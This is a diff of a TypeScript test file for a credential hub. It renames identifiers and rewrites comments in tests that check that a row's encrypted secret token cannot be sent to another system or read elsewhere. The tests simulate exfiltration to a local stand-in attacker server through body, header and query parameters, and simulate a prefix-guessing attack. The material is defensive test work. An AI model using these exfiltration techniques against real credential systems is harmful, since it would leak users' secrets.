@@ -1,6 +1,6 @@
 /**
- * A caller who may use a row's credential can neither read it nor carry it to another system, also when the
- * row's outside system echoes it: its token opens in calls of that row only.
+ * Protects: a caller of a row cannot read its credential or send it to another system, even if the row's
+ * system echoes it. The value token of a row's secret is valid only in calls of that row.
  */
 import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
 import type { KeyList } from "@hub/contract/key.ts";
@@ -21,20 +21,20 @@ const boundMessage = "it stands for a secret of a row and works only there";
 
 const owned = new AsyncDisposableStack();
 let dataDir: string;
-/** Where the credential belongs; it echoes what it is sent. */
-let careless: EchoServer;
+/** The system of the row, which echoes requests with the credential. */
+let echoing: EchoServer;
 /** A server of the attacker's choice. */
 let collecting: EchoServer;
 let hub: RunningHub;
 let adaToken: string;
-let carelessRow: string;
+let echoingRow: string;
 let collectingRow: string;
-/** A token of the row's secret, made while `HUB_ROW_TOKENS` was `user`. */
+/** A value token of the row's secret from the time when `HUB_ROW_TOKENS` was `user`. */
 let olderToken: string;
 
 beforeAll(async () => {
   dataDir = owned.use(await createDataFolder()).path;
-  careless = owned.use(startEchoServer());
+  echoing = owned.use(startEchoServer());
   collecting = owned.use(startEchoServer());
 });
 afterAll(() => owned.disposeAsync());
@@ -46,9 +46,9 @@ async function addRow(label: string, url: string, ...more: string[]): Promise<st
   return added.json<{ id: string }>().id;
 }
 
-/** The row's secret as a caller gets it: the token that the echo holds. */
+/** The value token of the row's secret, as the echo contains it. */
 async function readEcho(client: TestClient): Promise<string> {
-  const { value, text } = await client.execute(`conn:${carelessRow}/get`, { path: "/echo" });
+  const { value, text } = await client.execute(`conn:${echoingRow}/get`, { path: "/echo" });
   expect(text).not.toContain(secret);
   return /hub_enc_[\w-]+/.exec(value.body.headers.authorization)?.[0] ?? "";
 }
@@ -67,18 +67,18 @@ async function decrypt(token: string): Promise<{ status: number; html: string }>
   return { status, html: browser.html() };
 }
 
-/** What reached the attacker's server with a param, in a body, a header and a query. */
-async function sendAway(client: TestClient, token: string) {
+/** Sends a value token to the attacker's server in every kind of param, and counts the secrets that arrive. */
+async function sendToAttacker(client: TestClient, token: string) {
   collecting.received.length = 0;
-  const ways: Record<string, unknown>[] = [
+  const attempts: Record<string, unknown>[] = [
     { body: { stolen: token } },
     { headers: { "x-stolen": `Bearer ${token}` } },
     { query: { stolen: `${token}-prod` } },
     { body: `text with ${token}` },
   ];
   const codes: unknown[] = [];
-  for (const way of ways) {
-    const params = { path: "/echo", ...way };
+  for (const attempt of attempts) {
+    const params = { path: "/echo", ...attempt };
     const { value } = await client.execute(`conn:${collectingRow}/post`, params);
     codes.push(value.code ?? value.status);
     if (value.code !== undefined) expect(value.error).toContain(boundMessage);
@@ -86,13 +86,13 @@ async function sendAway(client: TestClient, token: string) {
   return { codes, received: JSON.stringify(collecting.received).split(secret).length - 1 };
 }
 
-describe("with HUB_ROW_TOKENS=user, as before", () => {
+describe("With HUB_ROW_TOKENS=user", () => {
   beforeAll(async () => {
     hub = await startHub({ dataDir, env: { HUB_ROW_TOKENS: "user" } });
     await hub.addUser(email, { tags: ["red"] });
     adaToken = await makeToken(email);
     const bearer = ["--set", "auth_mode=bearer", "--secret-env", "token=SECRET"];
-    carelessRow = await addRow("Careless", careless.url, ...bearer);
+    echoingRow = await addRow("Careless", echoing.url, ...bearer);
     collectingRow = await addRow("Collecting", collecting.url);
     const made = await hub.cli("user", "password", email, "--json");
     const once = made.json<{ one_time_password: string }>().one_time_password;
@@ -104,10 +104,10 @@ describe("with HUB_ROW_TOKENS=user, as before", () => {
   });
   afterAll(() => hub.stop());
 
-  test("a row's token opens in other rows and on the decrypt page of its user", async () => {
+  test("With HUB_ROW_TOKENS=user, a row's value token is valid in other rows and on the decrypt page", async () => {
     await using client = await connectHttp(hub.url, adaToken);
     olderToken = await readEcho(client);
-    expect(await sendAway(client, olderToken)).toEqual({
+    expect(await sendToAttacker(client, olderToken)).toEqual({
       codes: [200, 200, 200, 200],
       received: 4,
     });
@@ -115,7 +115,7 @@ describe("with HUB_ROW_TOKENS=user, as before", () => {
     expect(page).toEqual({ status: 200, html: expect.stringContaining(secret) });
   });
 
-  test("hub doctor says what that means", async () => {
+  test("hub doctor warns about HUB_ROW_TOKENS=user", async () => {
     const { checks } = (await hub.tryCli(["doctor", "--json"])).json<{ checks: unknown[] }>();
     expect(checks).toContainEqual({
       name: "masking",
@@ -125,7 +125,7 @@ describe("with HUB_ROW_TOKENS=user, as before", () => {
   });
 });
 
-describe("with HUB_ROW_TOKENS=bound, the default", () => {
+describe("With HUB_ROW_TOKENS=bound, the default", () => {
   let client: TestClient;
   let token: string;
 
@@ -139,42 +139,42 @@ describe("with HUB_ROW_TOKENS=bound, the default", () => {
     await hub.stop();
   });
 
-  test("a row's token sends the credential nowhere but to that row's system (attack)", async () => {
+  test("A row's value token does not send the secret to another row's system (attack)", async () => {
     const refused = Array.from({ length: 4 }, () => "token_invalid");
-    expect(await sendAway(client, token)).toEqual({ codes: refused, received: 0 });
+    expect(await sendToAttacker(client, token)).toEqual({ codes: refused, received: 0 });
     expect(collecting.received).toEqual([]);
     expect(readLastRun(dataDir)).toMatchObject({ status: "denied", error_code: "token_invalid" });
   });
 
-  test("a row's token is not read on the decrypt page (attack)", async () => {
+  test("The decrypt page refuses a row's value token (attack)", async () => {
     const page = await decrypt(token);
     expect(page.status).toBe(422);
     expect(page.html).toContain(boundMessage);
     expect(page.html).not.toContain(secret);
   });
 
-  test("a row's token opens in calls of that row, and comes back as the same token", async () => {
+  test("A row's value token is valid in calls of that row, and is masked as the same token", async () => {
     const params = { path: "/echo", headers: { "x-again": `key ${token}` } };
-    const { value, text } = await client.execute(`conn:${carelessRow}/get`, params);
-    expect(careless.received.at(-1)?.headers["x-again"]).toBe(`key ${secret}`);
+    const { value, text } = await client.execute(`conn:${echoingRow}/get`, params);
+    expect(echoing.received.at(-1)?.headers["x-again"]).toBe(`key ${secret}`);
     expect(value.body.headers["x-again"]).toBe(`key ${token}`);
     expect(text).not.toContain(secret);
   });
 
-  test("a retry opens a row's token in its row, also of a run from the record", async () => {
+  test("A retry of a recorded run can use the row's value token", async () => {
     const params = { path: "/echo", body: { key: token } };
-    await client.execute(`conn:${carelessRow}/post`, params);
+    await client.execute(`conn:${echoingRow}/post`, params);
     const run = readLastRun(dataDir);
     const url = `${hub.url}/manager/api/runs/${run.id}/retry`;
     const authorization = `Bearer ${await makeToken(email)}`;
     const headers = { authorization, "content-type": "application/json" };
     const response = await fetch(url, { method: "POST", headers, body: "{}" });
     expect(response.status).toBe(200);
-    expect(careless.received.at(-1)?.body).toBe(JSON.stringify({ key: secret }));
+    expect(echoing.received.at(-1)?.body).toBe(JSON.stringify({ key: secret }));
     expect(await response.text()).not.toContain(secret);
   });
 
-  test("an admin's test of another row opens it as little", async () => {
+  test("An admin's test of another row refuses the row's value token", async () => {
     await using admin = await connectHttp(hub.url, await makeToken("admin@localhost"));
     const own = await readEcho(admin);
     expect(own).not.toBe(token);
@@ -192,53 +192,53 @@ describe("with HUB_ROW_TOKENS=bound, the default", () => {
     expect([response.status, Object(await response.json()).code]).toEqual([422, "token_invalid"]);
   });
 
-  test("what the caller encrypted opens in every row, and stays the caller's where it equals the row's secret", async () => {
+  test("A value that the caller encrypted is valid in every row, even if it equals the row's secret", async () => {
     const browser = await signIn();
     await browser.go("/tools/encfields");
     await browser.submit("/tools/encfields", { value: secret });
     const own = /hub_enc_[\w-]+/.exec(browser.html())?.[0] ?? "";
-    expect((await sendAway(client, own)).received).toBe(4);
+    expect((await sendToAttacker(client, own)).received).toBe(4);
     const params = { path: "/echo", body: { key: own } };
-    const { value } = await client.execute(`conn:${carelessRow}/post`, params);
+    const { value } = await client.execute(`conn:${echoingRow}/post`, params);
     expect(value.body.body).toBe(JSON.stringify({ key: own }));
     expect(value.body.headers.authorization).toBe(`Bearer ${own}`);
   });
 
-  test("a value of the caller's does not show whether it begins like the row's secret (attack)", async () => {
+  test("A caller's value does not reveal the first characters of the row's secret (attack: guessing)", async () => {
     const browser = await signIn();
     const guesses: unknown[] = [];
     for (const next of [secret.charAt(0), "~"]) {
       await browser.go("/tools/encfields");
       await browser.submit("/tools/encfields", { value: `Bearer ${next}` });
       const body = /hub_enc_[\w-]+/.exec(browser.html())?.[0] ?? "";
-      const { value } = await client.execute(`conn:${carelessRow}/post`, { path: "/echo", body });
+      const { value } = await client.execute(`conn:${echoingRow}/post`, { path: "/echo", body });
       guesses.push(value.body.headers.authorization);
     }
     expect(guesses).toEqual([`Bearer ${token}`, `Bearer ${token}`]);
   });
 
-  test("a duplicated row starts without secrets, and opens no token of the first", async () => {
+  test("A duplicated row has no secrets, and refuses value tokens of the original row", async () => {
     const headers = {
       authorization: `Bearer ${await makeToken("admin@localhost")}`,
       "content-type": "application/json",
     };
-    const ask = (method: string, path: string, body: unknown) =>
+    const request = (method: string, path: string, body: unknown) =>
       fetch(`${hub.url}/manager/api${path}`, { method, headers, body: JSON.stringify(body) });
-    const copy = Object(await (await ask("POST", `/rows/${carelessRow}/duplicate`, {})).json());
+    const copy = Object(await (await request("POST", `/rows/${echoingRow}/duplicate`, {})).json());
     const path = `/rows/${copy.id}/operations/get/test`;
-    const bare = Object(await (await ask("POST", path, { params: { path: "/echo" } })).json());
+    const bare = Object(await (await request("POST", path, { params: { path: "/echo" } })).json());
     expect(bare).toMatchObject({ code: "needs_setup", missing: ["token"] });
     await hub.cli("row", "set", copy.id, "--set", "auth_mode=none");
     const params = { path: "/echo", query: { key: token } };
-    const tried = Object(await (await ask("POST", path, { params })).json());
+    const tried = Object(await (await request("POST", path, { params })).json());
     expect(tried.code).toBe("token_invalid");
   });
 
-  test("tokens from before open where they did until their key is removed", async () => {
-    expect((await sendAway(client, olderToken)).received).toBe(4);
+  test("Older value tokens keep their validity until their key is removed", async () => {
+    expect((await sendToAttacker(client, olderToken)).received).toBe(4);
     expect((await decrypt(olderToken)).html).toContain(secret);
     await hub.cli("keys", "rotate");
-    expect((await sendAway(client, olderToken)).received).toBe(4);
+    expect((await sendToAttacker(client, olderToken)).received).toBe(4);
     const { keys } = (await hub.cli("keys", "list", "--json")).json<KeyList>();
     await hub.cli("keys", "remove", keys.find(({ sealing }) => !sealing)?.id ?? "");
     const params = { path: "/echo", body: olderToken };
@@ -249,7 +249,7 @@ describe("with HUB_ROW_TOKENS=bound, the default", () => {
   });
 });
 
-/** A token that the management API takes, too. */
+/** Creates a token that is also valid for the management API. */
 async function makeToken(user: string): Promise<string> {
   const flags = ["--user", user, "--name", "test", "--scope", "manage", "--json"];
   return (await hub.cli("token", "create", ...flags)).json<{ token: string }>().token;
